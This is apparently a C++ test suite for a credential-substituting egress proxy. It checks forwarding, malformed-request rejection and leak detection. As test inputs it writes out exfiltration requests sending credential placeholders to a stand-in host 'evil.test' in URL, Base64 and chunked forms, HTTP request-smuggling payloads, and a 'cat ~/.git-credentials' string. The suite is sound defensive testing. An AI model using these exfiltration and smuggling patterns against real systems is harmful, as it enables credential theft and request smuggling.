// The proxy over plain HTTP with a raw client: request rules, detection, traces. (TLS and real
// clients: proxy_curl_test.cc.)
#include "proxy/proxy.h"

#include <gtest/gtest.h>

#include <atomic>
#include <functional>
#include <mutex>
#include <thread>

#include <boost/asio.hpp>
#include <boost/beast/core/flat_buffer.hpp>
#include <boost/beast/http.hpp>

#include "proxy/test_env.h"
#include "proxy/trace.h"
#include "vault/crypto.h"

namespace cloister::proxy::testing {
namespace {

namespace asio = boost::asio;
namespace http = boost::beast::http;

struct Reply {
  int status = 0;
  std::string body;
  bool closed = false;
};

// Sends raw bytes (in `parts`, one write each) and reads one response.
Reply Exchange(uint16_t port, const std::vector<std::string>& parts) {
  asio::io_context io;
  asio::ip::tcp::socket s(io);
  boost::system::error_code ec;
  s.connect({asio::ip::make_address("127.0.0.1"), port}, ec);
  EXPECT_FALSE(ec);
  for (const auto& p : parts) asio::write(s, asio::buffer(p), ec);
  boost::beast::flat_buffer buf;
  http::response<http::string_body> res;
  http::read(s, buf, res, ec);
  Reply r;
  if (ec) return r;
  r.status = res.result_int();
  r.body = res.body();
  r.closed = !res.keep_alive();
  return r;
}

class ProxyTest : public ::testing::Test {
 protected:
  void Start(vault::LlmBodyPolicy policy = vault::LlmBodyPolicy::kFlag, size_t hold = 1 << 20) {
    auto up = FakeUpstream::Start(nullptr, Hello());
    ASSERT_TRUE(up.ok());
    upstream_ = std::move(up).value();
    env_.StartProxy({{"api.anthropic.com:80", upstream_->Address()},
                     {"evil.test:80", upstream_->Address()},
                     {"api.github.com:80", upstream_->Address()}},
                    policy, hold);
  }
  ProxyEnv env_;
  std::unique_ptr<FakeUpstream> upstream_;
};

TEST_F(ProxyTest, PlainHttpForwardsWithoutSubstitution) {
  Start();
  const std::string& ph = env_.Placeholder(0);
  Reply r = Exchange(env_.proxy_port,
                     {"GET http://api.anthropic.com/v1/models?x=1 HTTP/1.1\r\nHost: "
                      "api.anthropic.com\r\nx-api-key: " + ph + "\r\n\r\n"});
  EXPECT_EQ(r.status, 200);
  EXPECT_EQ(r.body, "hello");
  ASSERT_EQ(upstream_->requests().size(), 1u);
  auto seen = upstream_->requests()[0];
  EXPECT_EQ(seen.target, "/v1/models?x=1");
  // SECURITY: a real value never goes out in clear text.
  EXPECT_EQ(seen.Header("x-api-key"), ph);
  EXPECT_EQ(seen.Header("proxy-connection"), "");
  auto trace = std::make_optional(env_.TraceAtLeast(1));
  ASSERT_EQ(trace->size(), 1u);
  EXPECT_EQ((*trace)[0].host, "api.anthropic.com");
  EXPECT_EQ((*trace)[0].path, "/v1/models");  // query dropped
  EXPECT_EQ((*trace)[0].status, 200);
  EXPECT_TRUE((*trace)[0].swaps.empty());
}

TEST_F(ProxyTest, KeepAliveServesSeveralRequests) {
  Start();
  asio::io_context io;
  asio::ip::tcp::socket s(io);
  s.connect({asio::ip::make_address("127.0.0.1"), env_.proxy_port});
  boost::beast::flat_buffer buf;
  for (int i = 0; i < 3; ++i) {
    std::string req = "GET http://api.github.com/" + std::to_string(i) +
                      " HTTP/1.1\r\nHost: api.github.com\r\n\r\n";
    asio::write(s, asio::buffer(req));
    http::response<http::string_body> res;
    http::read(s, buf, res);
    EXPECT_EQ(res.result_int(), 200);
    EXPECT_TRUE(res.keep_alive());
  }
  EXPECT_EQ(upstream_->requests().size(), 3u);
}

TEST_F(ProxyTest, MalformedRequestsAre400AndNeverForwarded) {
  Start();
  const std::vector<std::string> bad = {
      "POST http://api.github.com/ HTTP/1.1\r\nHost: api.github.com\r\nContent-Length: 5\r\n"
      "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
      "POST http://api.github.com/ HTTP/1.1\r\nHost: api.github.com\r\nTransfer-Encoding: "
      "chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n",
      "GET http://api.github.com/ HTTP/1.1\r\nHost: api.github.com\r\nX: " +
          std::string(100000, 'a') + "\r\n\r\n",
      "GET  http://api.github.com/ HTTP/1.1\r\nHost: api.github.com\r\n\r\n",
      "GET /direct HTTP/1.1\r\nHost: api.github.com\r\n\r\n",
      "GET http://api.github.com/ HTTP/1.1\r\nHost: api.github.com\r\nContent-Length: 1\r\n"
      "Content-Length: 2\r\n\r\nab",
      "\x16\x03\x01\x00\x10garbage\r\n\r\n",
  };
  for (const std::string& b : bad) {
    Reply r = Exchange(env_.proxy_port, {b});
    EXPECT_EQ(r.status, 400) << b.substr(0, 60);
    EXPECT_TRUE(r.closed);
  }
  EXPECT_TRUE(upstream_->requests().empty());
  EXPECT_FALSE(env_.proxy->compromised());
}

TEST_F(ProxyTest, PlaceholderToForeignHostIs451AndTrips) {
  Start();
  std::string pct;
  for (unsigned char c : env_.Placeholder(0)) {
    char b[4];
    snprintf(b, sizeof b, "%%%02X", c);
    pct += b;
  }
  Reply r = Exchange(env_.proxy_port, {"GET http://evil.test/c?k=" + pct +
                                       " HTTP/1.1\r\nHost: evil.test\r\n\r\n"});
  EXPECT_EQ(r.status, 451);
  EXPECT_TRUE(upstream_->requests().empty());
  EXPECT_TRUE(env_.proxy->compromised());
  auto events = env_.Events();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].workspace, "ws");
  EXPECT_EQ(events[0].credential, "anthropic");
  EXPECT_EQ(events[0].host, "evil.test");
  EXPECT_EQ(events[0].where, "url");
  EXPECT_EQ(events[0].encoding, "url");
  // Fail closed: nothing else goes out.
  Reply after = Exchange(env_.proxy_port,
                         {"GET http://api.github.com/ HTTP/1.1\r\nHost: api.github.com\r\n\r\n"});
  EXPECT_EQ(after.status, 451);
  EXPECT_TRUE(upstream_->requests().empty());
  auto trace = std::make_optional(env_.TraceAtLeast(1));
  ASSERT_GE(trace->size(), 1u);
  EXPECT_TRUE((*trace)[0].blocked);
  ASSERT_EQ((*trace)[0].leaks.size(), 1u);
  EXPECT_EQ((*trace)[0].leaks[0].credential, "anthropic");
}

TEST_F(ProxyTest, PlaceholderInHeaderOfWrongKindHostIs451) {
  Start();
  // The GitHub token sent to api.anthropic.com: out of its scope.
  Reply r = Exchange(env_.proxy_port, {"GET http://api.anthropic.com/ HTTP/1.1\r\nHost: "
                                       "api.anthropic.com\r\nAuthorization: token " +
                                       env_.Placeholder(1) + "\r\n\r\n"});
  EXPECT_EQ(r.status, 451);
  ASSERT_EQ(env_.Events().size(), 1u);
  EXPECT_EQ(env_.Events()[0].credential, "github");
  EXPECT_EQ(env_.Events()[0].where, "header:authorization");
}

TEST_F(ProxyTest, PlaceholderSplitAcrossChunksOfAStreamedBody) {
  Start(vault::LlmBodyPolicy::kFlag, /*hold=*/16);  // stream after 16 bytes
  const std::string& ph = env_.Placeholder(1);
  std::string first = std::string(40, 'a') + ph.substr(0, 17);
  std::string second = ph.substr(17) + std::string(40, 'b');
  auto chunk = [](const std::string& d) {
    char len[16];
    snprintf(len, sizeof len, "%zx\r\n", d.size());
    return std::string(len) + d + "\r\n";
  };
  Reply r = Exchange(env_.proxy_port,
                     {"POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\n"
                      "Transfer-Encoding: chunked\r\n\r\n" + chunk(first),
                      chunk(second) + "0\r\n\r\n"});
  EXPECT_EQ(r.status, 451);
  EXPECT_TRUE(upstream_->requests().empty());
  ASSERT_FALSE(env_.Events().empty());
  EXPECT_EQ(env_.Events()[0].where, "body");
  EXPECT_EQ(env_.Events()[0].credential, "github");
}

TEST_F(ProxyTest, Base64InBodyIs451) {
  Start();
  std::string body = "{\"blob\":\"" + vault::Base64Encode("token=" + env_.Placeholder(2)) + "\"}";
  Reply r = Exchange(env_.proxy_port, {"POST http://evil.test/x HTTP/1.1\r\nHost: evil.test\r\n"
                                       "Content-Length: " + std::to_string(body.size()) +
                                       "\r\n\r\n" + body});
  EXPECT_EQ(r.status, 451);
  ASSERT_FALSE(env_.Events().empty());
  EXPECT_EQ(env_.Events()[0].credential, "openai");
  EXPECT_EQ(env_.Events()[0].encoding, "base64");
  EXPECT_TRUE(upstream_->requests().empty());
}

TEST_F(ProxyTest, LlmConversationBodyPolicyFlagForwardsAndRecords) {
  Start(vault::LlmBodyPolicy::kFlag);
  std::string body = "{\"messages\":[{\"content\":\"cat ~/.git-credentials: " +
                     env_.Placeholder(1) + "\"}]}";
  Reply r = Exchange(env_.proxy_port,
                     {"POST http://api.anthropic.com/v1/messages HTTP/1.1\r\nHost: "
                      "api.anthropic.com\r\nContent-Length: " + std::to_string(body.size()) +
                      "\r\n\r\n" + body});
  EXPECT_EQ(r.status, 200);
  ASSERT_EQ(upstream_->requests().size(), 1u);
  EXPECT_EQ(upstream_->requests()[0].body, body);
  EXPECT_FALSE(env_.proxy->compromised());
  auto trace = std::make_optional(env_.TraceAtLeast(1));
  ASSERT_EQ(trace->size(), 1u);
  ASSERT_EQ((*trace)[0].leaks.size(), 1u);
  EXPECT_EQ((*trace)[0].leaks[0].action, "flagged");
  EXPECT_EQ((*trace)[0].leaks[0].credential, "github");
}

TEST_F(ProxyTest, LlmConversationBodyPolicyBlock) {
  Start(vault::LlmBodyPolicy::kBlock);
  std::string body = "{\"content\":\"" + env_.Placeholder(1) + "\"}";
  Reply r = Exchange(env_.proxy_port,
                     {"POST http://api.anthropic.com/v1/messages HTTP/1.1\r\nHost: "
                      "api.anthropic.com\r\nContent-Length: " + std::to_string(body.size()) +
                      "\r\n\r\n" + body});
  EXPECT_EQ(r.status, 451);
  EXPECT_TRUE(env_.proxy->compromised());
  EXPECT_TRUE(upstream_->requests().empty());
}

TEST_F(ProxyTest, ServeTakesAConnectedFd) {
  Start();
  int sv[2];
  ASSERT_EQ(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv), 0);
  env_.proxy->Serve(sv[0]);
  std::string req = "GET http://api.github.com/fd HTTP/1.1\r\nHost: api.github.com\r\n"
                    "Connection: close\r\n\r\n";
  ASSERT_EQ(write(sv[1], req.data(), req.size()), static_cast<ssize_t>(req.size()));
  std::string got;
  char buf[4096];
  ssize_t n;
  while ((n = read(sv[1], buf, sizeof buf)) > 0) got.append(buf, n);
  close(sv[1]);
  EXPECT_EQ(got.substr(0, 15), "HTTP/1.1 200 OK");
  EXPECT_NE(got.find("hello"), std::string::npos);
}

// Sends `data` to the proxy, half-closes, and returns everything the proxy sends back until EOF.
std::string RawRoundTrip(uint16_t port, const std::string& data) {
  asio::io_context io;
  asio::ip::tcp::socket s(io);
  boost::system::error_code ec;
  s.connect({asio::ip::make_address("127.0.0.1"), port}, ec);
  EXPECT_FALSE(ec);
  asio::write(s, asio::buffer(data), ec);
  s.shutdown(asio::socket_base::shutdown_send, ec);
  std::string got;
  char buf[4096];
  for (;;) {
    size_t n = s.read_some(asio::buffer(buf), ec);
    if (ec) break;
    got.append(buf, n);
  }
  return got;
}

// A loopback TCP server answering "echo:" + what it read, once its client half-closed.
class EchoServer {
 public:
  EchoServer() {
    acceptor_.open(asio::ip::tcp::v4());
    acceptor_.bind({asio::ip::make_address("127.0.0.1"), 0});
    acceptor_.listen();
    thread_ = std::thread([this] {
      for (;;) {
        boost::system::error_code ec;
        asio::ip::tcp::socket c(io_);
        acceptor_.accept(c, ec);
        if (ec) return;
        connections_++;
        std::string in;
        char buf[4096];
        for (;;) {
          size_t n = c.read_some(asio::buffer(buf), ec);
          if (ec) break;
          in.append(buf, n);
        }
        asio::write(c, asio::buffer("echo:" + in), ec);
      }
    });
  }
  ~EchoServer() {
    ::shutdown(acceptor_.native_handle(), SHUT_RDWR);  // wakes the blocking accept
    boost::system::error_code ec;
    acceptor_.close(ec);
    thread_.join();
  }
  std::string Address() const { return "127.0.0.1:" + std::to_string(acceptor_.local_endpoint().port()); }
  int connections() const { return connections_; }

 private:
  asio::io_context io_;
  asio::ip::tcp::acceptor acceptor_{io_};
  std::thread thread_;
  std::atomic<int> connections_{0};
};

TEST_F(ProxyTest, OpaqueTunnelsOnlyToAllowedHostsAndPorts) {
  EchoServer echo;
  env_.tunnel_ports = {22};
  env_.tunnel_hosts = {"example.test"};
  env_.StartProxy({{"git.example.test:22", echo.Address()},
                   {"example.org:22", echo.Address()},
                   {"git.example.test:2222", echo.Address()}});
  // Allowed: spliced byte for byte, both directions, no interception.
  std::string ok = RawRoundTrip(env_.proxy_port, "CONNECT git.example.test:22 HTTP/1.1\r\n"
                                                 "Host: git.example.test:22\r\n\r\nSSH-2.0-test\r\n\x01\x02");
  EXPECT_EQ(ok.substr(0, 12), "HTTP/1.1 200") << ok;
  EXPECT_NE(ok.find("\r\n\r\necho:SSH-2.0-test\r\n\x01\x02"), std::string::npos) << ok;
  EXPECT_EQ(echo.connections(), 1);
  // Host outside the tunnel scope (a suffix without a dot boundary is not in scope either).
  std::string host = RawRoundTrip(env_.proxy_port, "CONNECT example.org:22 HTTP/1.1\r\n"
                                                   "Host: example.org:22\r\n\r\nSSH-2.0-test\r\n");
  EXPECT_EQ(host.substr(0, 12), "HTTP/1.1 403") << host;
  EXPECT_EQ(host.find("echo:"), std::string::npos);
  // Allowed host, port that is not a tunnel port: the tunnel must be TLS; opaque bytes are cut.
  std::string port = RawRoundTrip(env_.proxy_port, "CONNECT git.example.test:2222 HTTP/1.1\r\n"
                                                   "Host: git.example.test:2222\r\n\r\nSSH-2.0-test\r\n");
  EXPECT_EQ(port.find("echo:"), std::string::npos) << port;
  EXPECT_EQ(echo.connections(), 1);
  auto recs = env_.TraceAtLeast(3);
  int tunnels = 0;
  for (const auto& r : recs) tunnels += r.method == "CONNECT" && r.status == 200 && r.port == 22;
  EXPECT_EQ(tunnels, 1);
}

// Issue 15 item 12: from the moment of a trip, no new CONNECT, opaque tunnel or TLS interception
// opens (before the fix they opened until the supervisor's pause landed).
TEST_F(ProxyTest, AfterATripNoNewTunnelOpens) {
  auto up = FakeUpstream::Start(nullptr, Hello());
  ASSERT_TRUE(up.ok());
  upstream_ = std::move(up).value();
  EchoServer echo;
  env_.tunnel_ports = {22};
  env_.tunnel_hosts = {"example.test"};
  env_.StartProxy({{"git.example.test:22", echo.Address()},
                   {"evil.test:80", upstream_->Address()},
                   {"api.anthropic.com:443", upstream_->Address()}});
  Reply trip = Exchange(env_.proxy_port, {"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n"
                                          "X-Token: " + env_.Placeholder(1) + "\r\n\r\n"});
  ASSERT_EQ(trip.status, 451);
  ASSERT_TRUE(env_.proxy->compromised());
  std::string tunnel = RawRoundTrip(env_.proxy_port, "CONNECT git.example.test:22 HTTP/1.1\r\n"
                                                     "Host: git.example.test:22\r\n\r\nSSH-2.0-test\r\n");
  EXPECT_EQ(tunnel.substr(0, 12), "HTTP/1.1 451") << tunnel;
  EXPECT_EQ(tunnel.find("echo:"), std::string::npos) << tunnel;
  EXPECT_EQ(echo.connections(), 0);
  std::string tls = RawRoundTrip(env_.proxy_port, "CONNECT api.anthropic.com:443 HTTP/1.1\r\n"
                                                  "Host: api.anthropic.com:443\r\n\r\n");
  EXPECT_EQ(tls.substr(0, 12), "HTTP/1.1 451") << tls;
  EXPECT_TRUE(upstream_->requests().empty());
}

// Issue 15 item 7, plain HTTP: an absolute-form request whose Host names another host is 421 (a
// shared front would route it by Host, past the egress policy's judgement of the target).
TEST_F(ProxyTest, AbsoluteFormWithAnotherHostIs421) {
  Start();
  Reply r = Exchange(env_.proxy_port, {"GET http://api.github.com/x HTTP/1.1\r\nHost: evil.test\r\n\r\n"});
  EXPECT_EQ(r.status, 421);
  EXPECT_NE(r.body.find("does not match the request target's host api.github.com"),
            std::string::npos) << r.body;
  EXPECT_TRUE(upstream_->requests().empty());
  EXPECT_FALSE(env_.proxy->compromised());
}

// A loopback TCP server that records every byte it reads, as it reads them.
class RecordingServer {
 public:
  RecordingServer() {
    acceptor_.open(asio::ip::tcp::v4());
    acceptor_.bind({asio::ip::make_address("127.0.0.1"), 0});
    acceptor_.listen();
    thread_ = std::thread([this] {
      boost::system::error_code ec;
      asio::ip::tcp::socket c(io_);
      acceptor_.accept(c, ec);
      if (ec) return;
      accepted_ = true;
      char buf[4096];
      for (;;) {
        size_t n = c.read_some(asio::buffer(buf), ec);
        std::lock_guard<std::mutex> l(mu_);
        if (ec) break;
        got_.append(buf, n);
      }
      std::lock_guard<std::mutex> l(mu_);
      closed_ = true;
    });
  }
  ~RecordingServer() {
    ::shutdown(acceptor_.native_handle(), SHUT_RDWR);
    boost::system::error_code ec;
    acceptor_.close(ec);
    thread_.join();
  }
  std::string Address() const { return "127.0.0.1:" + std::to_string(acceptor_.local_endpoint().port()); }
  // Waits (bounded) until `pred(bytes so far, closed)` holds; returns the bytes.
  std::string WaitFor(const std::function<bool(const std::string&, bool)>& pred) {
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
    for (;;) {
      {
        std::lock_guard<std::mutex> l(mu_);
        if (pred(got_, closed_) || std::chrono::steady_clock::now() > deadline) return got_;
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
  }

 private:
  asio::io_context io_;
  asio::ip::tcp::acceptor acceptor_{io_};
  std::thread thread_;
  std::mutex mu_;
  std::string got_;
  bool closed_ = false;
  std::atomic<bool> accepted_{false};

 public:
  bool accepted() const { return accepted_; }
};

// Issue 15 item 11: a streamed body keeps back at least the longest placeholder (in any encoding
// the detector knows), so when a long placeholder arrives split across pieces, none of its bytes
// reached the upstream before the detector saw the rest (the old hold-back was 256 bytes).
TEST_F(ProxyTest, StreamedBodyHoldsBackTheLongestPlaceholder) {
  RecordingServer recorder;
  std::string value;
  for (int i = 0; value.size() < 3000; ++i) value += "Tok" + std::to_string(i * 7919 % 10007);
  env_.creds.push_back(Bind(vault::CredentialKind::kHeader, value, {"api.example.test"}, "X-Key"));
  env_.StartProxy({{"evil.test:80", recorder.Address()}}, vault::LlmBodyPolicy::kFlag, /*hold=*/16);
  const std::string ph = env_.creds.back().placeholder;
  ASSERT_GE(ph.size(), 3000u);
  auto chunk = [](const std::string& d) {
    char len[16];
    snprintf(len, sizeof len, "%zx\r\n", d.size());
    return std::string(len) + d + "\r\n";
  };
  asio::io_context io;
  asio::ip::tcp::socket s(io);
  boost::system::error_code ec;
  s.connect({asio::ip::make_address("127.0.0.1"), env_.proxy_port}, ec);
  ASSERT_FALSE(ec);
  asio::write(s, asio::buffer("POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\n"
                              "Transfer-Encoding: chunked\r\n\r\n" +
                              chunk(std::string(40, 'a') + ph.substr(0, 2000))), ec);
  // The proxy streams (the body is past the 16-byte hold): once it connected upstream it has read
  // the first piece, so the second is read apart from it.
  recorder.WaitFor([&](const std::string&, bool) { return recorder.accepted(); });
  ASSERT_TRUE(recorder.accepted());
  asio::write(s, asio::buffer(chunk(ph.substr(2000)) + "0\r\n\r\n"), ec);
  boost::beast::flat_buffer buf;
  http::response<http::string_body> res;
  http::read(s, buf, res, ec);
  EXPECT_EQ(res.result_int(), 451u);
  std::string upstream = recorder.WaitFor([](const std::string&, bool closed) { return closed; });
  EXPECT_EQ(upstream.find(ph.substr(0, 16)), std::string::npos)
      << "the start of the placeholder reached the upstream: " << upstream.size() << " bytes";
}

TEST(SubstituteTest, HeaderForms) {
  EXPECT_EQ(*SubstituteInHeader("Bearer PH", "PH", "REAL"), "Bearer REAL");
  EXPECT_EQ(*SubstituteInHeader("token PH", "PH", "REAL"), "token REAL");
  std::string basic = "Basic " + vault::Base64Encode("x-access-token:PH");
  EXPECT_EQ(*SubstituteInHeader(basic, "PH", "REAL"),
            "Basic " + vault::Base64Encode("x-access-token:REAL"));
  EXPECT_FALSE(SubstituteInHeader("Bearer other", "PH", "REAL").has_value());
  EXPECT_FALSE(SubstituteInHeader("Basic !!!", "PH", "REAL").has_value());
}

}  // namespace
}  // namespace cloister::proxy::testing
